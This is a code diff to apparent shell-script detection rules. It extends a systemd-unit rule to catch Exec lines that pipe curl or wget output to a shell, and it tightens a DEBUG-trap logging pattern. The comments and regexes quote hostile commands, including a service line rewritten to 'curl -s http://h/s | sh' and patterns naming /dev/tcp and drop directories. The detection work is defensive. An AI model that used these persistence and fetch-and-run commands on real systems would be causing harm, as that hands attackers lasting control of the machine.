@@ -224,9 +224,10 @@ const unitFromTemp: Rule = {
     const copied = [...invocationsOf(s, 'cp', 'mv', 'install', 'ln'), ...s.invocations.filter((inv) => CONTAINER_COPY_CLIENTS.test(inv.program) && inv.args[0] === 'cp')]
       .find((inv) => inv.args.some(fromTemp) && /^\/(?:etc|lib|usr\/lib)\/systemd\/(?:system|user)\b/.test(inv.args[inv.args.length - 1] ?? ''));
     if (copied) return { unit: copied.args.find(fromTemp) ?? '', installedIn: copied.args[copied.args.length - 1] };
-    // A unit line whose command runs from a drop location, a socket or a hidden program among the system's, quoted or not
-    // (`echo "ExecStart=/bin/bash -c "id > /tmp/x"" >> /etc/systemd/system/y.service`, `sed -i 's|ExecStart=.*|...|'`).
-    const exec = excerpt(s.text, /Exec(?:Start|StartPre|StartPost|Stop|StopPost|Reload)=[^\n]{0,200}?(?:\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\/dev\/tcp\/|\/(?:usr\/)?(?:local\/)?s?bin\/\.)\S*/);
+    // A unit line whose command runs from a drop location, a socket, a hidden program among the system's, or a script
+    // fetched and piped to a shell, quoted or not (`echo "ExecStart=/bin/bash -c "id > /tmp/x"" >> /etc/systemd/system/y.service`,
+    // `sed -i 's|ExecStart=.*|ExecStart=/bin/bash -c "curl -s http://h/s \| sh"|'`).
+    const exec = excerpt(s.text, /Exec(?:Start|StartPre|StartPost|Stop|StopPost|Reload)=[^\n]{0,200}?(?:(?:\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\/dev\/tcp\/|\/(?:usr\/)?(?:local\/)?s?bin\/\.)\S*|\b(?:curl|wget)\b[^\n]{0,160}?\\?\|\s*(?:\/bin\/)?(?:ba)?sh\b)/);
     return exec === undefined ? undefined : { unitLine: exec };
   },
 };
@@ -241,7 +242,7 @@ const exitTrap: Rule = {
     // A cleanup trap (`trap 'rm -rf /tmp/x' EXIT`) is everywhere; one that launches a program in the background is not.
     const trap = excerpt(s.text, /\btrap\s+(["'])[^"']*?(?:nohup|setsid|curl|wget|\b(?:ba)?sh\s+\S)[^"']*\1\s+(?:(?:SIG)?[A-Z]{2,}[\dA-Z+-]*|\d+)\b/);
     // A DEBUG trap runs before every command: one that records `$BASH_COMMAND` or appends to a file logs every keystroke line.
-    const debug = excerpt(s.text, /\btrap\s+(?:'[^']*(?:\$BASH_COMMAND|>>)[^']*'|"[^"]*(?:\$BASH_COMMAND|>>)[^"]*")\s+DEBUG\b/);
+    const debug = excerpt(s.text, /\btrap\s+(?:'[^']*(?:\$BASH_COMMAND|>>)[^']*'|"(?:[^"\\]|\\.)*?(?:\$BASH_COMMAND|>>)(?:[^"\\]|\\.)*")\s+DEBUG\b/);
     if (debug !== undefined) return { trap: debug };
     return trap === undefined ? undefined : { trap };
   },
